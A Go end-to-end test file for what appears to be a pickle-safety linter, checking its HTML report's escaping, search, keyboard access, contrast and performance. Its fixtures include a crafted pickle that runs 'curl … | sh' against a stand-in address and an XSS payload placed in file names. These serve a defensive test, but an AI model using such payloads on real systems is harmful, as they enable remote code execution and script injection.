package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/pickle-lint/pickle-lint/internal/recipe"
)

// hostileText is what a name can do to a page.
const hostileText = "</script><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">&lt;"

// writePage lints a project that has some of everything, and returns the page.
func writePage(t *testing.T) string {
	t.Helper()
	if !cgo(t) {
		t.Skip("Python needs cgo")
	}
	dir := filepath.Join(t.TempDir(), "spool-service")
	assemble := func(text string) string {
		blob, err := recipe.Assemble(text)
		if err != nil {
			t.Fatal(err)
		}
		return string(blob)
	}
	evil := assemble("PROTO 4\nGLOBAL posix system\nSHORT_BINUNICODE 'curl -s http://203.0.113.9/x.sh | sh'\nTUPLE1\nREDUCE\nSTOP\n")
	files := map[string]string{
		"models/cut.pkl":         evil[:len(evil)-3],
		"models/released/net.pt": evil,
		"models/order.pkl":       assemble("PROTO 4\nGLOBAL shop.orders Order\nEMPTY_TUPLE\nNEWOBJ\nSTOP\n"),
		"app/view.py":            "import pickle\nfrom flask import request\n\n\ndef restore():\n    raw = request.data\n    body = raw[4:]\n    return pickle.loads(body)\n",
		"app/cache.py": "import pickle\n\n\ndef read(fh):\n    # picklelint:trust boundary=host reason=\"cache that only this service writes, mode 0600\" owner=storage\n    return pickle.load(fh)\n\n\n" +
			"def other(fh):\n    # picklelint:trust boundary=partner reason=\"nightly export of the billing partner\" owner=billing\n    return pickle.load(fh)\n",
		"app/jobs/queue.py":          "import joblib, numpy as np, shelve\n\nmodel = joblib.load('model.joblib')\ntable = np.load('table.npy', allow_pickle=True)\nstore = shelve.open('store')\n",
		"app/jobs/safe.py":           "import torch\n\nstate = torch.load('state.pt', weights_only=True)\n",
		"app/jobs/long.py":           "import pickle\nx = '" + strings.Repeat("y", 5000) + "'; pickle.loads(b); z = '" + strings.Repeat("w", 5000) + "'\n",
		"app/state.py":               "import threading\n\n\nclass Spool:\n    def __init__(self):\n        self.lock = threading.Lock()\n\n    def __getstate__(self):\n        return dict(self.__dict__)\n",
		"scripts/broken.py":          "import pickle\ndef (:\n  pickle.load(f)\n",
		"scripts/x\u202egpj.py":      "import pickle\npickle.load(open('x', 'rb'))\n",
		"odd/" + "a\nb\x01c.py":      "import pickle\npickle.load(open('x', 'rb'))\n",
		"odd/bad\xff.py":             "import pickle\npickle.load(open('x', 'rb'))\n",
		"odd/<img src=x>&amp;'\".py": "import pickle\npickle.loads(b\"" + strings.ReplaceAll(hostileText, `"`, `'`) + "\")\npickle.loads(x)\n",
		"odd/evil.pkl":               "\x80\x02cposix\nsystem\nV" + hostileText + "\n\x85R.",
	}
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return lintToPage(t, dir, "-v")
}

// lintToPage lints a directory and returns the page about it.
func lintToPage(t *testing.T, dir string, flags ...string) string {
	t.Helper()
	report := filepath.Join(t.TempDir(), "report.html")
	cmd := exec.Command(binary("pickle-lint"), append(flags, "--no-cache", "--today", "2026-11-01", "--fail-on", "never", "--format", "html", "--output", report)...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); !isVerdict(err) {
		t.Fatalf("%v\n%s", err, out)
	}
	return report
}

// shown counts the findings that can be seen.
const shown = `Array.from(document.querySelectorAll("#list > li")).filter(e => e.checkVisibility()).length`

func TestPage(t *testing.T) {
	b := openBrowser(t, 1200, 900)
	b.load(writePage(t))
	if title := eval[string](b, "document.title"); title != "spool-service: pickle-lint report" {
		t.Errorf("the title is %q", title)
	}
	all := eval[int](b, `document.querySelectorAll("#list > li").length`)
	open := eval[int](b, `document.querySelectorAll("#list > li:not(.suppressed)").length`)
	if n := eval[int](b, shown); n != open || all <= open {
		t.Errorf("%d of %d are shown, %d are not justified", n, all, open)
	}
	b.shoot("desktop.png", true)
	b.sub("order", func(t *testing.T) {
		// What was found is what a reader has come for: it begins on the first screen, and
		// what counts and maps it comes behind.
		titles := eval[[]string](b, `Array.from(document.querySelectorAll("main h2"), e => e.textContent)`)
		want := []string{"Findings", "Not looked at: ", "By rule", "By folder", "Trust boundaries", "Sites", "Stored bytes"}
		if len(titles) < len(want) {
			t.Fatalf("sections %q", titles)
		}
		for i, title := range want {
			if !strings.HasPrefix(titles[i], title) {
				t.Errorf("section %d is %q, want %q", i, titles[i], title)
			}
		}
		if y := eval[float64](b, `document.querySelector("#list > li").getBoundingClientRect().top`); y > 600 {
			t.Errorf("the first finding is %v pixels below the top", y)
		}
	})
	b.sub("code in messages", func(t *testing.T) {
		got := eval[[]string](b, `Array.from(document.querySelectorAll("#list .msg code"), e => e.textContent)`)
		if !slices.Contains(got, "self.lock") || eval[bool](b, "Array.from(document.querySelectorAll('#list .msg')).some(e => e.textContent.includes('`'))") {
			t.Errorf("set as code: %q", got)
		}
	})

	b.sub("search", func(*testing.T) {
		// The key does what it says from anywhere but a field. It is sent as one event, as
		// a keyboard does: who takes it takes its character, too.
		call(b, input.DispatchKeyEvent, input.DispatchKeyEventParams{Type: input.DispatchKeyEventTypeKeyDown, Key: "/", Code: "Slash", Text: "/"})
		b.run(chromedp.SendKeys(chromedp.CSS("#search"), "REQUEST  view.py:8"))
		b.until(shown + ` === 1 && document.activeElement.id === "search"`)
		b.until(`document.getElementById("count").textContent === "1 of ` + strconv.Itoa(all) + ` shown"`)
		b.run(chromedp.SendKeys(chromedp.CSS("#search"), " nosuchword"))
		b.until(shown + ` === 0 && document.getElementById("none").checkVisibility()`)
		b.run(chromedp.KeyEvent(kb.Escape))
		b.until(fmt.Sprintf("%s === %d", shown, open))
	})
	b.sub("filters", func(*testing.T) {
		errors := eval[int](b, `document.querySelectorAll("#list > li.error:not(.suppressed)").length`)
		b.run(chromedp.Click(chromedp.CSS(`.tiles .error a`)))
		b.until(fmt.Sprintf("%s === %d", shown, errors))
		b.run(chromedp.Click(chromedp.CSS("#clear")))
		b.until(fmt.Sprintf("%s === %d", shown, open))
		b.run(chromedp.Click(chromedp.CSS(`.chip.justified input`)))
		b.until(fmt.Sprintf("%s === %d", shown, all))
		b.run(chromedp.Click(chromedp.CSS(`a[data-rule="PKL101"]`)))
		b.until(fmt.Sprintf("%s === %d", shown, eval[int](b, `document.querySelectorAll("#list > li[data-r=PKL101]").length`)))
		b.run(chromedp.Click(chromedp.CSS("#clear")), chromedp.SetValue(chromedp.CSS("#folder"), "app/jobs"))
		eval[bool](b, `document.getElementById("folder").dispatchEvent(new Event("change"))`)
		b.until(fmt.Sprintf("%s === %d", shown, eval[int](b, `document.querySelectorAll("#list > li[data-d='app/jobs']:not(.suppressed)").length`)))
		b.run(chromedp.Click(chromedp.CSS("#clear")))
	})
	b.sub("sort", func(t *testing.T) {
		const places = `Array.from(document.querySelectorAll("#list > li"), e => +e.dataset.p)`
		for value, want := range map[string]string{
			"place":    places + `.every((p, i, all) => i === 0 || all[i-1] < p)`,
			"rule":     `Array.from(document.querySelectorAll("#list > li"), e => e.dataset.r).every((r, i, all) => i === 0 || all[i-1] <= r)`,
			"severity": `Array.from(document.querySelectorAll("#list > li:not(.suppressed)"), e => +e.dataset.k).every((k, i, all) => i === 0 || all[i-1] >= k)`,
		} {
			b.run(chromedp.SetValue(chromedp.CSS("#sort"), value))
			eval[bool](b, `document.getElementById("sort").dispatchEvent(new Event("change"))`)
			if !eval[bool](b, want) {
				t.Errorf("not sorted by %s", value)
			}
		}
		b.run(chromedp.Click(chromedp.CSS("#clear")))
		b.run(chromedp.Click(chromedp.CSS(`#site-table th:nth-child(2) button`)))
		const apis = `Array.from(document.querySelectorAll("#site-table tbody tr"), e => e.cells[1].textContent)`
		if !eval[bool](b, apis+`.every((a, i, all) => i === 0 || all[i-1].localeCompare(a) <= 0)`) || eval[string](b, `document.querySelector("#site-table th:nth-child(2)").ariaSort`) != "ascending" {
			t.Errorf("sites are not sorted: %v", eval[[]string](b, apis))
		}
		b.run(chromedp.Click(chromedp.CSS(`#site-table th:nth-child(2) button`)))
		if eval[string](b, `document.querySelector("#site-table th:nth-child(2)").ariaSort`) != "descending" {
			t.Error("a second click does not turn the order")
		}
	})
	b.sub("keyboard", func(t *testing.T) {
		const at = `Array.from(document.querySelectorAll("#list > li")).filter(e => e.checkVisibility()).findIndex(e => e.contains(document.activeElement))`
		b.run(chromedp.Focus(chromedp.CSS("#search")))
		for _, step := range []struct {
			key  string
			want int
		}{{kb.ArrowDown, 0}, {kb.ArrowDown, 1}, {"j", 2}, {"k", 1}, {kb.End, open - 1}, {kb.ArrowDown, open - 1}, {kb.Home, 0}} {
			b.run(chromedp.KeyEvent(step.key))
			if got := eval[int](b, at); got != step.want {
				t.Errorf("after %q finding %d has the focus, want %d", step.key, got, step.want)
			}
		}
		if !eval[bool](b, `getComputedStyle(document.activeElement).outlineStyle !== "none" && document.activeElement.matches(":focus-visible")`) {
			t.Error("the focus cannot be seen")
		}
		b.run(chromedp.KeyEvent(kb.Enter))
		b.until(`document.activeElement.parentElement.open`)
		b.run(chromedp.KeyEvent(kb.ArrowUp))
		b.until(`document.activeElement.id === "search"`)
		// Whatever can be clicked can be reached.
		if n := eval[int](b, `document.querySelectorAll("[tabindex]:not([tabindex='0']):not([tabindex='-1']), div[onclick], span[onclick]").length`); n != 0 {
			t.Errorf("%d things spoil the order of the focus", n)
		}
		if n := eval[int](b, `Array.from(document.querySelectorAll("button, input, select, a")).filter(e => !(e.textContent.trim() || e.ariaLabel || e.labels?.[0]?.textContent.trim())).length`); n != 0 {
			t.Errorf("%d controls have no name", n)
		}
	})
	b.sub("open", func(t *testing.T) {
		b.run(chromedp.Click(chromedp.CSS("#expand")))
		b.until(`Array.from(document.querySelectorAll("#list > li:not([hidden]) > details")).every(d => d.open)`)
		if got := eval[string](b, `Array.from(document.querySelectorAll("#list .ops .hit"), e => e.innerText).find(s => s.includes("REDUCE")) || ""`); !strings.Contains(got, "52") || !strings.Contains(got, "REDUCE") {
			t.Errorf("the marked op is %q", got)
		}
		if got := eval[string](b, `document.querySelector("#list .flow").innerText`); !strings.Contains(got, "HTTP request") || !strings.Contains(got, "request.data") {
			t.Errorf("the way of the bytes is %q", got)
		}
		b.shoot("open.png", true)
		b.run(chromedp.Click(chromedp.CSS("#collapse")))
		b.until(`!document.querySelector("#list details[open]")`)
		eval[any](b, `location.hash = "#f2"`)
		b.until(`document.querySelector("#f2 details").open`)
	})
	b.sub("skips", func(t *testing.T) {
		if got := eval[string](b, `document.getElementById("skips").innerText`); !strings.Contains(got, "scripts/broken.py") {
			t.Errorf("what was not looked at: %q", got)
		}
	})
	b.sub("theme", func(*testing.T) {
		const back = "getComputedStyle(document.body).backgroundColor"
		light := eval[string](b, back)
		b.run(chromedp.Click(chromedp.CSS("#theme")))
		b.until(back + ` !== "` + light + `"`)
		b.run(chromedp.Reload())
		b.until(`document.readyState === "complete" && ` + back + ` !== "` + light + `"`)
		b.run(chromedp.Click(chromedp.CSS("#theme")))
		b.until(back + ` === "` + light + `"`)
	})
	if title := eval[string](b, "document.title"); title != "spool-service: pickle-lint report" {
		t.Errorf("a name became part of the page: %q", title)
	}
	if n := eval[int](b, `document.querySelectorAll("main img, main script, main iframe").length`); n != 0 {
		t.Errorf("%d elements of foreign making", n)
	}
	b.quiet()
}

func TestPageDark(t *testing.T) {
	b := openBrowser(t, 1200, 900, &emulation.MediaFeature{Name: "prefers-color-scheme", Value: "dark"})
	b.load(writePage(t))
	if !eval[bool](b, `getComputedStyle(document.body).backgroundColor.match(/\d+/g).every(c => +c < 60)`) {
		t.Error("the page is light where dark is preferred")
	}
	b.run(chromedp.Click(chromedp.CSS("#list > li:first-child summary")), chromedp.Click(chromedp.CSS("#list > li:nth-child(2) summary")))
	b.shoot("dark.png", true)
	checkContrast(b)
	b.quiet()
}

func TestPageOnAPhone(t *testing.T) {
	b := openBrowser(t, 360, 740)
	b.load(writePage(t))
	b.run(chromedp.Click(chromedp.CSS("#list > li:first-child summary")), chromedp.Click(chromedp.CSS("#list > li:nth-child(2) summary")))
	if wide := eval[int](b, "document.documentElement.scrollWidth"); wide > 360 {
		t.Errorf("the page is %d pixels wide on a screen of 360", wide)
	}
	if n := eval[int](b, `Array.from(document.querySelectorAll("button, select, input[type=search]")).filter(e => e.checkVisibility() && !e.closest(".sites") && e.getBoundingClientRect().height < 32).length`); n != 0 {
		t.Errorf("%d controls are too small for a finger", n)
	}
	if n := eval[int](b, `Array.from(document.querySelectorAll("button")).filter(e => e.checkVisibility() && e.getBoundingClientRect().height > 48).length`); n != 0 {
		t.Errorf("%d buttons break their word", n)
	}
	// Headings and captions are whole, and what goes on beyond the edge shows that it does.
	if cut := eval[[]string](b, `Array.from(document.querySelectorAll("h1, h2, h3, caption:not(.hide), .hint")).filter(e => e.checkVisibility() && e.getBoundingClientRect().right > 360).map(e => e.textContent)`); len(cut) != 0 {
		t.Errorf("cut at the edge of the screen: %q", cut)
	}
	const wider = `Array.from(document.querySelectorAll("main *")).filter(e => e.checkVisibility() && ["auto", "scroll"].includes(getComputedStyle(e).overflowX) && e.scrollWidth > e.clientWidth + 1)`
	if n := eval[int](b, wider+".length"); n < 2 {
		t.Errorf("%d things scroll sideways: the project of the test has become too small", n)
	}
	if bare := eval[[]string](b, wider+`.filter(e => !getComputedStyle(e).backgroundAttachment.includes("local")).map(e => e.className)`); len(bare) != 0 {
		t.Errorf("without a mark that they scroll: %q", bare)
	}
	b.shoot("phone.png", true)
	checkContrast(b)
	b.quiet()
}

// checkContrast asks for the ratio of WCAG 2.2 AA (1.4.3) for all text that is shown.
func checkContrast(b *browser) {
	b.t.Helper()
	bad := eval[[]string](b, `(() => {
		const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
		const rgba = c => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1); return canvas.getImageData(0, 0, 1, 1).data; };
		const light = c => { const [r, g, b] = [...c].map(v => v / 255).map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
		const behind = e => { for (; e; e = e.parentElement) { const c = rgba(getComputedStyle(e).backgroundColor); if (c[3] === 255) return c; } return [255, 255, 255]; };
		const out = new Set();
		for (const e of document.querySelectorAll("body *")) {
			if (!e.checkVisibility() || ![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()) || e.closest(".hide, .zero, option, svg")) continue;
			const a = light(rgba(getComputedStyle(e).color)), z = light(behind(e));
			const ratio = (Math.max(a, z) + 0.05) / (Math.min(a, z) + 0.05);
			if (ratio < 4.5) out.add(e.tagName + "." + e.className + " " + ratio.toFixed(2) + " " + e.textContent.trim().slice(0, 30));
		}
		return [...out];
	})()`)
	for _, text := range bad {
		b.t.Errorf("hard to read: %s", text)
	}
}

// Without scripts the page is a list of everything, in order.
func TestPageWithoutScripts(t *testing.T) {
	b := openBrowser(t, 800, 900)
	call(b, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	b.load(writePage(t))
	if eval[bool](b, `document.documentElement.classList.contains("js")`) {
		t.Fatal("the script has run")
	}
	if n, all := eval[int](b, shown), eval[int](b, `document.querySelectorAll("#list > li").length`); n != all || n == 0 {
		t.Errorf("%d of %d findings are shown", n, all)
	}
	if eval[bool](b, `Array.from(document.querySelectorAll("form, button, #none")).some(e => e.checkVisibility())`) {
		t.Error("there are controls that do nothing")
	}
	b.quiet()
}

// On paper everything that is listed is open, and nothing is dark.
func TestPageOnPaper(t *testing.T) {
	b := openBrowser(t, 1000, 900, &emulation.MediaFeature{Name: "prefers-color-scheme", Value: "dark"})
	b.load(writePage(t))
	call(b, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
	if eval[bool](b, `document.getElementById("tools").checkVisibility()`) {
		t.Error("the controls are printed")
	}
	if !eval[bool](b, `document.querySelector("#list .ops").getBoundingClientRect().height > 10`) {
		t.Error("what is closed on the screen is missing on paper")
	}
	b.shoot("print.png", true)
	pdf := call(b, page.PrintToPDF, page.PrintToPDFParams{}).Data
	if !strings.HasPrefix(string(pdf), "%PDF") {
		t.Error("no PDF")
	}
}

// A page of 5,000 findings is there at once, and so is what is searched in it.
func TestPageOfMany(t *testing.T) {
	if testing.Short() {
		t.Skip("takes seconds")
	}
	if !cgo(t) {
		t.Skip("Python needs cgo")
	}
	dir := t.TempDir()
	const files, each = 100, 50
	for i := range files {
		path := filepath.Join(dir, fmt.Sprintf("pkg%d", i%10), fmt.Sprintf("mod%d.py", i))
		var text strings.Builder
		text.WriteString("import pickle\n")
		for k := range each {
			fmt.Fprintf(&text, "\n\ndef read%d(fh):\n    return pickle.load(fh)\n", k)
		}
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	b := openBrowser(t, 1200, 900)
	report := lintToPage(t, dir, "--quick")
	info, err := os.Stat(report)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	b.load(report)
	b.until(fmt.Sprintf("%s === %d", shown, files*each))
	loaded := time.Since(start)
	t.Logf("load event after %.0f ms", eval[float64](b, "performance.getEntriesByType('navigation')[0].loadEventEnd"))
	// Milliseconds of work and layout, the first search with the text of all.
	timed := func(change string) float64 {
		return eval[float64](b, `(() => { const t = performance.now(); `+change+`; document.body.offsetHeight; return performance.now() - t; })()`)
	}
	const chip = `{ const c = document.querySelector(".chip.warning input"); c.checked = !c.checked; c.dispatchEvent(new Event("change")); }`
	const find = `{ const s = document.getElementById("search"); s.value = "mod17.py:1"; document.getElementById("rule").dispatchEvent(new Event("change")); }`
	const sort = `{ const s = document.getElementById("sort"); s.value = "rule"; s.dispatchEvent(new Event("change")); }`
	hide, show, search, order := timed(chip), timed(chip), timed(find), timed(sort)
	t.Logf("%d kB, loaded in %v; hide all %.0f ms, show all %.0f ms, first search %.0f ms, sort %.0f ms", info.Size()>>10, loaded.Round(time.Millisecond), hide, show, search, order)
	b.shoot("many.png", false)
	// A second is what people wait for without losing the thread; machines of CI are slow.
	if loaded > 10*time.Second || max(hide, show, search, order) > 2000 {
		t.Error("too slow")
	}
	b.quiet()
}
